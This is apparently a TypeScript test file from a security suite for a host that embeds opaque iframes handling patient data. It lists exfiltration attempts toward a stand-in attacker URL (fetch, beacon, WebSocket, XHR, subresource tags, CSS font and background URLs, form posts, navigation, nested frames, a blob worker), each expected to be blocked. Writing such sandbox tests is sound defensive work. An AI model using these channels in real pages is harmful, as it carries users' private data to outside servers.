import type { FrameAttack } from '../attack-case.ts';
import { allOf, nothingLeaked, realmIntact } from '../verdicts.ts';

const egressCase = (id: string, title: string, act: FrameAttack['act']): FrameAttack => ({
  id,
  threat: 21,
  kind: 'frame',
  from: 'opaque',
  title: `${title}, from an opaque frame that the workplace serves`,
  rejected: 'Nothing arrives at the attacker’s server, which the manifest does not name.',
  control: 'headers-off',
  act,
  verdict: allOf(realmIntact, nothingLeaked),
});

const settle = () => new Promise((resolve) => setTimeout(resolve, 250));

/**
 * Row 21: carrying patient data away. Only for frames whose page the workplace serves: what a frame on a partner's own
 * server does there no host can forbid, and the guide says so.
 */
export const EGRESS: readonly FrameAttack[] = [
  egressCase('t21-fetch', 'Sends data by fetch, beacon, XHR, event source and web socket', async (kit) => {
    await kit.join();
    const url = kit.leakUrl('fetch');
    const tries: readonly (() => unknown)[] = [
      () => fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' }),
      () => navigator.sendBeacon(url, 'x'),
      () => new EventSource(url),
      () => new WebSocket(url.replace('http', 'ws')),
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', url);
        request.send('x');
      },
    ];
    for (const attempt of tries) {
      try {
        await attempt();
      } catch {
        // Refused, as it should be.
      }
    }
    await settle();
  }),
  egressCase(
    't21-subresources',
    'Sends data in the address of an image, a style, a font, a script and a preload',
    async (kit) => {
      await kit.join();
      const markup = document.createElement('div');
      const url = kit.leakUrl('subresource');
      markup.innerHTML = `<img src="${url}/img"><link rel=stylesheet href="${url}/css"><link rel=preload as=image href="${url}/preload"><link rel=prefetch href="${url}/prefetch"><video src="${url}/video"></video><object data="${url}/object"></object><embed src="${url}/embed"><style>@font-face{font-family:x;src:url(${url}/font)}*{background:url(${url}/background);font-family:x}</style>x`;
      document.body.append(markup);
      const script = document.createElement('script');
      script.src = `${url}/script`;
      document.body.append(script);
      await settle();
    },
  ),
  egressCase('t21-form', 'Posts data by a form, into itself and into a frame inside', async (kit) => {
    await kit.join();
    const inner = document.createElement('iframe');
    inner.name = 'inner';
    document.body.append(inner);
    const form = document.createElement('form');
    Object.assign(form, { action: kit.leakUrl('form'), method: 'post', target: 'inner' });
    document.body.append(form);
    form.submit();
    await settle();
  }),
  egressCase('t21-navigation', 'Carries data away in the address it navigates itself to', async (kit) => {
    await kit.join();
    location.assign(kit.leakUrl('navigation'));
    await settle();
  }),
  egressCase(
    't21-nested-frame',
    'Carries data away in the address of a frame and of a worker inside itself',
    async (kit) => {
      await kit.join();
      const inner = document.createElement('iframe');
      inner.src = kit.leakUrl('nested-frame');
      document.body.append(inner);
      try {
        const source = `fetch(${JSON.stringify(kit.leakUrl('worker'))},{mode:'no-cors'})`;
        new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      } catch {
        // Refused, as it should be.
      }
      await settle();
    },
  ),
];
